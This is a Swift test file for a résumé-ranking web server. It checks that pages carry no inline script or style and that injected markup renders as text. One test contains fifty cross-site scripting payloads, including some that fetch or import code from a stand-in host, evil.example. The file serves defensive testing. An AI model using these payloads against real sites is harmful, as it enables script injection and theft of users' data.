#if Server
  import Foundation
  import HTTPTypes
  import Rolefit
  import Testing
  import Workspaces

  @testable import RolefitServer

  struct PageTests {
    static let form: HTTPFields = [.contentType: "application/x-www-form-urlencoded"]

    @Test func `a résumé that is only looked at is ranked, explained, and stored nowhere`()
      async throws
    {
      let fixture = try await Fixture()
      try await fixture.fill()
      let client = Client(fixture.service)
      let text = try #require(Fixture.resume.addressed)
      let sent = try await client.ask(
        .post, "/", Self.form, body: "resume=\(text)&location=Leeds")
      #expect(sent.status == .seeOther)
      let address = try #require(sent.headers[.location])
      let ranking = try await client.ask(.get, address)
      #expect(ranking.status == .ok)
      #expect(ranking.text.contains("Night baker"))
      let link = try #require(ranking.text.firstMatch(of: /href="(\/explain[^"]*)"/)?.1)
      let page = try await client.ask(.get, String(link).replacing("&amp;", with: "&"))
      #expect(page.status == .ok)
      #expect(page.text.contains("Deck oven"))
      #expect(try fixture.workspace.count(.profile) == 1)
    }

    @Test func `pages hold no style and no script of their own`() async throws {
      let fixture = try await Fixture()
      try await fixture.fill()
      try await fixture.workspace.add(
        [try fixture.document("other", CompareTests.other)], kind: .profile,
        label: { _ in nil }, now: 1)
      let client = Client(fixture.service)
      let entries = try fixture.workspace.entries(.profile, after: nil, limit: 9)
      let compare = "/candidates/compare?role=baker&a=\(entries[0].reference)&b="
      for uri in Self.pages + [compare + entries[1].reference] {
        let page = try await client.ask(.get, uri)
        #expect(page.status == .ok, "\(uri)")
        #expect(page.headers[.contentSecurityPolicy]?.contains("unsafe") == false)
        #expect(!page.text.contains("<style") && !page.text.contains(" style="), "\(uri)")
        #expect(page.text.matches(of: /<script(?! src="\/assets\/)/).isEmpty, "\(uri)")
      }
    }

    static let pages = [
      "/", "/match?profile=mira", "/explain?profile=mira&role=baker", "/candidates",
      "/candidates?role=baker&names=yes", "/workspace?note=hello", "/login",
      "/market", "/market?workplace=unknown", "/market/roles?workplace=unknown",
      "/workspace?show=closed", "/workspace?show=new", "/workspace/merge?id=mira&id=other",
    ]

    static let payloads: [String] = {
      let bodies = [
        "alert(1)", "fetch('//evil.example')", "document.title='x'",
        "import('//evil.example/x.js')",
        "location='//evil.example'",
      ]
      return bodies.flatMap { body in
        [
          "<script>\(body)</script>", "\"><script>\(body)</script>",
          "'><img src=x onerror=\"\(body)\">",
          "<svg onload=\(body)>", "</title><script>\(body)</script>",
          "</option></select><script>\(body)</script>",
          "<a href=\"javascript:\(body)\">x</a>", "<iframe srcdoc=\"<script>\(body)</script>\">",
          "</textarea><script>\(body)</script>", "<style>@import '//evil.example';</style>\(body)",
        ]
      }
    }()

    @Test func `markup in postings and résumés stays text on every page`() async throws {
      #expect(Self.payloads.count == 50)
      let fixture = try await Fixture()
      try await fillWithPayloads(fixture)
      let profile = try #require(("mira " + Self.payloads[1]).addressed)
      let client = Client(fixture.service)
      var uris = [
        "/", "/workspace", "/candidates", "/market", "/market/roles",
        "/match?top=100&profile=" + profile,
      ]
      uris += Self.payloads.indices.map { "/explain?profile=\(profile)&role=r\($0)" }
      uris += [
        "/candidates?names=yes&role=r0", "/workspace?note=" + (Self.payloads[0].addressed ?? ""),
      ]
      let entries = try fixture.workspace.entries(.profile, after: nil, limit: 9)
      let pair = "a=\(entries[0].reference)&b=\(entries[1].reference)"
      uris += [
        "/candidates/compare?role=r0&" + pair, "/candidates/compare?role=r1&names=yes&" + pair,
        "/explain?role=r2&candidate=" + entries[1].reference,
        "/workspace/merge?id=other&id=" + profile,
        "/match?words=bread&clearance=" + (Self.payloads[3].addressed ?? "") + "&profile="
          + profile,
      ]
      for uri in uris {
        let page = try await client.ask(.get, uri)
        #expect(page.status == .ok, "\(uri)")
        let tags = ["<img", "<iframe", "<style", "<script>", "<svg onload", "href=\"javascript:"]
        for tag in tags { #expect(!page.text.contains(tag), "\(tag) in \(uri)") }
      }
    }

    /// Roles with a payload in each of their fields, and two profiles with all of them.
    private func fillWithPayloads(_ fixture: Fixture) async throws {
      for (index, payload) in Self.payloads.enumerated() {
        let role = """
          {"id": "r\(index)", "title": \(quoted("Baker " + payload)), "company": \(quoted(payload)),
          "location": \(quoted("Leeds " + payload)), "text": \(quoted("Requirements\\n- bread " + payload))}
          """.replacing("\n", with: " ")
        let record = try DocumentReader.readRecord(Array(role.utf8), fallbackID: "r")
        try await fixture.workspace.add(
          [record], kind: .role, label: { _ in payload }, now: 1, extendsIndex: false)
      }
      let all = Self.payloads.joined(separator: "\n")
      try await fixture.workspace.add(
        [try fixture.document("mira " + Self.payloads[1], Fixture.resume + "\n" + all)],
        kind: .profile, label: { _ in nil }, now: 1)
      try await fixture.workspace.add(
        [try fixture.document("other", all + "\n" + Fixture.resume)], kind: .profile,
        label: { _ in nil }, now: 1)
    }

    private func quoted(_ text: String) -> String {
      let data = try? JSONSerialization.data(
        withJSONObject: [text], options: .withoutEscapingSlashes)
      return String(String(decoding: data ?? Data(), as: UTF8.self).dropFirst().dropLast())
        .replacing("\\\\n", with: "\\n")
    }

    @Test func `a form of files is taken apart`() throws {
      let body =
        "--b\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\nrole\r\n"
        + "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n"
        + "Content-Type: text/plain\r\n\r\none\r\ntwo\r\n--b--\r\n"
      let form = try FormBody(Array(body.utf8), type: "multipart/form-data; boundary=b")
      #expect(form["kind"] == "role")
      #expect(form.files("file").map(\.file) == ["a.txt"])
      #expect(form.files("file").first?.bytes == Array("one\r\ntwo".utf8))
    }

    @Test(arguments: [
      ("a; b.txt", "a; b.txt"), ("a%22b%22.txt", "a\"b\".txt"), ("100%.txt", "100%.txt"),
      ("name=x.txt", "name=x.txt"),
    ])
    func `the name of a file comes as it is`(sent: String, name: String) throws {
      let body =
        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"\(sent)\"\r\n\r\n"
        + "one\r\n--b--\r\n"
      let form = try FormBody(Array(body.utf8), type: "multipart/form-data; boundary=b")
      #expect(form.files("file").map(\.file) == [name])
    }

    @Test(arguments: [
      ("multipart/form-data", ""), ("multipart/form-data; boundary=b", "--b\r\nno end--b--"),
      ("multipart/form-data; boundary=b", "--b\r\nX: y\r\n\r\nz\r\n--b--"), ("text/plain", "a=b"),
      ("", ""),
    ])
    func `a form that is none is refused`(type: String, body: String) {
      #expect(throws: Problem.self) { try FormBody(Array(body.utf8), type: type) }
    }

    @Test func `files that are added are listed, and those that cannot be read with why`()
      async throws
    {
      let fixture = try await Fixture()
      let body =
        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"baker.txt\"\r\n\r\n"
        + Fixture.baker
        + "\r\n--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.bin\""
        + "\r\n\r\na\u{0}b\r\n--b--\r\n"
      let client = Client(fixture.service)
      let sent = try await client.ask(
        .post, "/workspace", [.contentType: "multipart/form-data; boundary=b"], body: body)
      #expect(sent.status == .seeOther)
      let page = try await client.ask(.get, "/workspace").text
      #expect(page.contains("Night baker"))
      #expect(page.contains("x.bin"))
      let gone = try await client.ask(
        .post, "/workspace/remove", Self.form, body: "kind=role&id=baker")
      #expect(gone.status == .seeOther)
      #expect(try fixture.workspace.count(.role) == 0)
    }
  }
#endif
